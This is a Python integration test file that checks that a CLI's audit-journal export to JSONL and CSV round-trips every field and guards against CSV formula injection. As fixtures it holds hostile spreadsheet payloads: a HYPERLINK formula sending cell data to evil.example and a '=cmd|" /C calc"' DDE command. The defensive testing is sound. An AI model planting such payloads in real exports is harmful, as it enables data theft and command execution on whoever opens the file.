"""`keel audit export --request-id R --format jsonl|csv`: one request's story, every journal event with that request
id across agents, oldest first, every field — compared with the journal rows themselves, run as a user runs it."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import datetime
from pathlib import Path
from typing import Any

import psycopg
import pytest

from agents.audit.export import CSV_GUARDED, csv_cell_value, request_events
from agents.client import Client
from agents.core.errors import RequestConflict, StaleRevision
from models.clock import rfc3339
from models.db import Database
from models.roles import RoleNames
from models.urls import libpq_url
from tests.support.audit import TEST_ENV, TEST_KEYS
from tests.support.cli import run_keel
from tests.support.roles import RoledDatabase

pytestmark = pytest.mark.integration

KEEL = str(Path(sys.executable).parent / "keel")

# What a spreadsheet would run, what breaks naive CSV, and text beyond ASCII (U+2028 is a line break to some readers).
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click, me")'
HOSTILE_ACTORS = (
    FORMULA,
    '+1, "two"\nthree',
    "-2+3",
    "@SUM(A1:A9)",
    "'already quoted",
    "\tTabbed",
    "ünïcødé 🚀 \u2028 \u05e9\u05dc\u05d5\u05dd",
)


def keel(url: str, *args: str, names: RoleNames | None = None, **env: str) -> subprocess.CompletedProcess[str]:
    """Run ``keel`` on ``url`` (KEEL_DATABASE_URL), in a directory of its own, with nothing of the caller's KEEL_*."""
    child = {k: v for k, v in os.environ.items() if not k.startswith(("KEEL_", "OTEL_"))}
    child["KEEL_DATABASE_URL"] = url
    child |= TEST_ENV  # the journal's key ring (production refuses to start without one)
    if names is not None:
        child |= {
            "KEEL_DB_OWNER_ROLE": names.owner,
            "KEEL_DB_APP_ROLE": names.app,
            "KEEL_DB_AUDITOR_ROLE": names.auditor,
        }
    scratch = Path(os.environ.get("TMPDIR", "/tmp")) / "keel-export-tests"
    scratch.mkdir(exist_ok=True)
    return run_keel(args, child | env, scratch)  # as printed: CSV's \r\n line ends stay


def story(client: Client, request_id: str = "r-1") -> None:
    """Events carrying ``request_id`` on two agents, hostile text in their actors and details, and events of another
    request around them."""
    ledger = client.create_agent("ledger", actor="setup")
    other = client.create_agent("other", actor="setup")
    client.submit(other.id, "r-0", {"prompt": "before"}, actor="setup")
    client.submit(ledger.id, request_id, {"prompt": 'Summarise, "quote", =1+1'}, actor=HOSTILE_ACTORS[0])
    # Another agent with a request of the same id (ids are each agent's own): not the ledger's story.
    client.submit(client.create_agent("third", actor="setup").id, request_id, {"prompt": "mine"}, actor="setup")
    # The same id again with another input: refused, journaled on the ledger with the request id.
    with pytest.raises(RequestConflict):
        client.submit(ledger.id, request_id, {"prompt": "changed"}, actor=HOSTILE_ACTORS[1])
    for actor in HOSTILE_ACTORS[2:]:  # stale commands: rejected, journaled under the request in flight
        with pytest.raises(StaleRevision):
            client.cancel(ledger.id, expected_revision=99, actor=actor, reason=f"{actor}, line\nbreak")
    client.cancel(ledger.id, actor="alice", reason='=cmd|" /C calc"!A0\r\nüber')
    client.submit(ledger.id, "r-2", {"prompt": "after"}, actor="setup")


def journal_rows(url: str, request_id: str) -> tuple[list[str], list[dict[str, Any]]]:
    """The journal's columns and the request's rows as stored (details as their stored text), by a superuser."""
    with psycopg.connect(libpq_url(url)) as conn, conn.cursor(row_factory=psycopg.rows.dict_row) as cur:
        cur.execute(
            "SELECT *, details::text AS details FROM audit.journal j WHERE request_id = %s"
            " AND agent_id = (SELECT id FROM agents WHERE name = 'ledger') ORDER BY seq",
            (request_id,),
        )
        rows = cur.fetchall()
        columns = [d.name for d in cur.description or ()][:-1]
        cur.execute(
            "SELECT id, name FROM agents UNION ALL SELECT agent_id, name || ' (deleted)' FROM audit.deleted_agents"
        )
        names = {r["id"]: r["name"] for r in cur.fetchall()}
    for row in rows:
        row["agent"] = names[row["agent_id"]]
    return ["id", "agent_id", "agent", *(c for c in columns if c not in ("id", "agent_id"))], rows


def as_text(value: Any) -> str | None:
    """A stored value as the export writes it in CSV (None: an empty cell): times in Keel's format, ids as text."""
    if value is None:
        return None
    return rfc3339(value) if isinstance(value, datetime) else str(value)


def as_json(value: Any) -> Any:
    """A stored value as the export writes it in JSON Lines: numbers as numbers, the rest as in CSV."""
    return value if isinstance(value, int) else as_text(value)


@pytest.fixture
def told(client: Client) -> Client:
    story(client)
    return client


def test_jsonl_round_trips_every_field_of_every_event_in_order(told: Client, db_url: str, tmp_path: Path) -> None:
    result = keel(db_url, "audit", "export", "--agent", "ledger", "--request-id", "r-1", "--format", "jsonl")
    assert result.returncode == 0, result.stderr
    assert result.stdout.endswith("\n") and result.stderr == ""
    lines = result.stdout.split("\n")[:-1]  # one object a line, whatever line breaks the values hold
    exported = [json.loads(line) for line in lines]
    columns, rows = journal_rows(db_url, "r-1")
    assert len(rows) == 1 + 1 + len(HOSTILE_ACTORS[2:]) + 1  # submit, the changed retry, stale ones, cancel
    assert [list(e) for e in exported] == [columns] * len(rows)
    for event, row in zip(exported, rows, strict=True):
        assert event == {c: as_json(row[c]) for c in columns} | {"details": json.loads(row["details"])}
    # Across agents, by global id; the other agent's refused attempt and every hostile actor are there.
    assert [e["id"] for e in exported] == sorted(e["id"] for e in exported)
    assert {e["agent"] for e in exported} == {"ledger"}, "another agent's request of the same id is not this story"
    assert set(HOSTILE_ACTORS) <= {e["actor"] for e in exported}
    assert {e["request_id"] for e in exported} == {"r-1"}
    # The same to a file, with a line saying what was written.
    target = tmp_path / "r-1.jsonl"
    written = keel(
        db_url,
        "audit",
        "export",
        "--agent",
        "ledger",
        "--request-id",
        "r-1",
        "--format",
        "jsonl",
        "--output",
        str(target),
    )
    assert written.returncode == 0, written.stderr
    assert written.stdout == f"exported {len(rows)} events of request 'r-1' to {target}\n"
    assert target.read_text(encoding="utf-8") == result.stdout
    assert [p.name for p in tmp_path.iterdir()] == ["r-1.jsonl"]  # no scratch file left behind


def test_csv_round_trips_and_no_cell_can_run_as_a_formula(told: Client, db_url: str) -> None:
    result = keel(db_url, "audit", "export", "--agent", "ledger", "--request-id", "r-1", "--format", "csv")
    assert result.returncode == 0, result.stderr
    parsed = list(csv.reader(io.StringIO(result.stdout, newline="")))
    columns, rows = journal_rows(db_url, "r-1")
    assert parsed[0] == columns
    assert result.stdout.startswith(",".join(columns) + "\r\n")
    body = parsed[1:]
    assert len(body) == len(rows)
    for cells, row in zip(body, rows, strict=True):
        assert not any(cell.startswith(CSV_GUARDED[:-1]) for cell in cells), cells  # formula-safe
        stored = {c: as_text(row[c]) for c in columns}
        assert {c: csv_cell_value(cell) or None for c, cell in zip(columns, cells, strict=True)} == stored
        assert json.loads(cells[columns.index("details")]) == json.loads(row["details"])
    actors = [cells[columns.index("actor")] for cells in body]
    assert "'" + FORMULA in actors and "''already quoted" in actors and "'\tTabbed" in actors
    assert "ünïcødé 🚀 \u2028 \u05e9\u05dc\u05d5\u05dd" in actors  # not guarded: starts with a letter


def test_an_unknown_request_is_an_error_naming_it_and_writes_nothing(told: Client, db_url: str, tmp_path: Path) -> None:
    target = tmp_path / "kept.csv"
    target.write_text("what was here\n")
    for fmt in ("jsonl", "csv"):
        result = keel(
            db_url,
            "audit",
            "export",
            "--agent",
            "ledger",
            "--request-id",
            "nope-1",
            "--format",
            fmt,
            "--output",
            str(target),
        )
        assert result.returncode == 1
        assert (
            result.stderr
            == "keel: error: no journal event of the agent has the request id 'nope-1': nothing to export\n"
        )
        assert result.stdout == ""
        assert target.read_text() == "what was here\n"
    to_stdout = keel(db_url, "audit", "export", "--agent", "ledger", "--request-id", "nope-1", "--format", "csv")
    assert (to_stdout.returncode, to_stdout.stdout) == (1, "")
    assert [p.name for p in tmp_path.iterdir()] == ["kept.csv"]
    bad = keel(db_url, "audit", "export", "--agent", "ledger", "--request-id", "r-1", "--format", "xml")
    assert bad.returncode == 2 and "'xml' is not one of 'jsonl', 'csv'" in bad.stderr
    nul = keel(db_url, "audit", "export", "--agent", "ledger", "--request-id", "a" * 201, "--format", "csv")
    assert nul.returncode == 1 and "request_id must be at most 200 characters" in nul.stderr


def test_export_streams_through_a_server_side_cursor(told: Client, db: Database, db_url: str) -> None:
    """The rows come a batch at a time: with a batch of 2, after the first row the exporting session's last statement
    is a FETCH of 2 from its cursor, not the whole query."""
    with request_events(db, told.get_state("ledger").id, "r-1", batch=2) as (_, rows):
        first = next(rows)
        with psycopg.connect(libpq_url(db_url), autocommit=True) as watcher:
            fetches = watcher.execute(
                "SELECT query FROM pg_stat_activity WHERE datname = current_database() AND pid <> pg_backend_pid()"
                " AND query LIKE 'FETCH%%'"
            ).fetchall()
        rest = list(rows)
    assert fetches == [('FETCH FORWARD 2 FROM "keel_audit_export"',)]
    _, stored = journal_rows(db_url, "r-1")
    assert [first["id"], *(r["id"] for r in rest)] == [r["id"] for r in stored]


def test_the_auditor_exports(roles_db: RoledDatabase) -> None:
    app = Database(roles_db.app_url, pool_size=2, audit_keys=TEST_KEYS)
    try:
        story(Client(app))
    finally:
        app.dispose()
    production = {"KEEL_ENVIRONMENT": "production", "KEEL_BROKER_URL": "redis://127.0.0.1:6379/0"}
    for fmt in ("jsonl", "csv"):  # in production too: an export only reads
        result = keel(
            roles_db.auditor_url,
            "audit",
            "export",
            "--agent",
            "ledger",
            "--request-id",
            "r-1",
            "--format",
            fmt,
            names=roles_db.names,
            **production,
        )
        assert result.returncode == 0, result.stderr
        assert FORMULA.split("(")[1][:10] in result.stdout
    as_superuser = keel(
        roles_db.url, "audit", "export", "--agent", "ledger", "--request-id", "r-1", "--format", "jsonl"
    )
    as_auditor = keel(
        roles_db.auditor_url,
        "audit",
        "export",
        "--agent",
        "ledger",
        "--request-id",
        "r-1",
        "--format",
        "jsonl",
        names=roles_db.names,
    )
    assert as_auditor.stdout == as_superuser.stdout
